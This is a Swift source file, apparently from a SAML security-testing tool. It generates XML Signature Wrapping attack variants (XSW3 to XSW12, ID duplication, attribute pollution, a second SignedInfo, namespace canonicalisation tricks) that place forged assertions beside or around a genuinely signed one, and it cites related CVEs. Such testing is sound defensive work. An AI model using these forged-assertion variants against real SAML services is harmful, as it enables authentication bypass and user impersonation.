import CanonicalXML

/// Attacks that move a signed assertion (XSW3 to XSW12).
///
/// Numbers 1 to 10 are those of SAML Raider; 11 and 12 are this project's.
extension Original {
  var wrappedAssertions: [Variant] {
    guard let signature = assertionSignature else { return [] }
    let whole = assertion.text
    let moved = movable(assertion)
    let bare = movable(assertion, without: signature)
    let evil = ForgedAssertion().text(of: self)
    let signed = ForgedAssertion(signature: signature.text).text(of: self)
    func holding(_ text: String) -> String {
      ForgedAssertion(signature: self.signature(signature, holding: text)).text(of: self)
    }
    let advice = "\(assertion.prefix)Advice"
    return [
      Variant("XSW3 forged before signed", replacingAssertion(with: evil + whole)),
      Variant("XSW3 forged behind signed", replacingAssertion(with: whole + evil)),
      Variant(
        "XSW4 signed inside forged",
        replacingAssertion(with: ForgedAssertion(end: moved).text(of: self))),
      Variant(
        "XSW4 signed inside Advice of forged",
        replacingAssertion(
          with: ForgedAssertion(advice: "<\(advice)>\(moved)</\(advice)>").text(of: self))),
      Variant(
        "XSW5 signature on forged, original behind", replacingAssertion(with: signed + bare)),
      Variant(
        "XSW5 signature on forged, original before", replacingAssertion(with: bare + signed)),
      Variant("XSW6 original inside the signature", replacingAssertion(with: holding(bare))),
      Variant(
        "XSW8 original inside an Object",
        replacingAssertion(with: holding(wrapped(bare, in: "Object", of: signature)))),
      Variant(
        "XSW12 signed inside a value of forged",
        replacingAssertion(with: ForgedAssertion(firstValue: moved).text(of: self))),
      Variant(
        "XSW7 forged in Extensions, signed in its place",
        parked(inExtensions: movableForgery, assertion: whole)),
      Variant(
        "XSW7 forged in StatusDetail, signed in its place",
        parked(inStatusDetail: movableForgery, assertion: whole)),
    ] + parkedAssertions(bare, moved, signed, evil) + forgedInside(signature)
      + secondSignedInfo(signature)
  }

  /// The signed assertion is put where extensions are allowed.
  private func parkedAssertions(
    _ bare: String, _ moved: String, _ signed: String, _ evil: String
  ) -> [Variant] {
    let signature = assertionSignature?.text ?? ""
    let groups: [(name: String, AttackClass, parked: String, assertion: String)] = [
      ("XSW7 original", .wrapping, bare, signed),
      (
        "one ID twice", .identifier, bare,
        ForgedAssertion(id: nil, signature: signature).text(of: self)
      ),
      (
        "attribute pollution, original", .identifier, bare,
        ForgedAssertion(signature: signature, attributes: pollution).text(of: self)
      ),
      ("signed", .wrapping, moved, evil),
    ]
    return groups.flatMap { name, group, hidden, replacement in
      [
        Variant(
          "\(name) in Extensions", parked(inExtensions: hidden, assertion: replacement),
          in: group),
        Variant(
          "\(name) in StatusDetail", parked(inStatusDetail: hidden, assertion: replacement),
          in: group),
      ]
    } + [
      Variant(
        "forged with the ID of the original",
        replacingAssertion(
          with: ForgedAssertion(id: nil, signature: signature).text(of: self)), in: .identifier),
      Variant(
        "attribute pollution",
        replacingAssertion(
          with: ForgedAssertion(signature: signature, attributes: pollution).text(of: self)),
        in: .identifier),
      Variant(
        "void canonicalisation",
        replacingAssertion(
          with: ForgedAssertion(signature: signature, attributes: " xmlns:x=\"relative\"")
            .text(of: self)), ["CVE-2025-66568", "CVE-2025-66578"], in: .namespace),
    ]
  }

  /// The signed assertion stays, and its signature holds a forged one that it does not cover.
  private func forgedInside(_ signature: WrittenElement) -> [Variant] {
    let evil = movableForgery
    return [("XSW11 forged inside KeyInfo", "KeyInfo"), ("XSW8 forged inside an Object", "Object")]
      .map { name, element in
        let holding = self.signature(
          signature, holding: wrapped(evil, in: element, of: signature))
        return Variant(name, replacing([(signature.range, holding)]))
      }
  }

  /// An ID in a namespace beside the one without.
  private var pollution: String { " xmlns:x=\"urn:x\" x:ID=\"\(ids.assertion)\"" }
}

extension Original {
  /// XSW9: two `SignedInfo`, one for the original and one for the forged assertion.
  fileprivate func secondSignedInfo(
    _ signature: WrittenElement
  ) -> [Variant] {
    guard let parts = SignatureParts(of: signature, in: self),
      let forged = parts.signedInfoOfForged()
    else { return [] }
    let vulnerabilities = ["CVE-2019-3465", "CVE-2025-29774"]
    let places = [
      ("before", parts.signedInfo.range.lowerBound), ("behind", signature.content.upperBound),
    ]
    return places.map { place, offset in
      let both = text(signature.range, with: [(offset..<offset, forged)])
      let evil = ForgedAssertion(signature: both).text(of: self)
      return Variant(
        "XSW9 second SignedInfo \(place) the signed one",
        parked(inExtensions: movable(assertion, without: signature), assertion: evil),
        vulnerabilities)
    }
  }
}
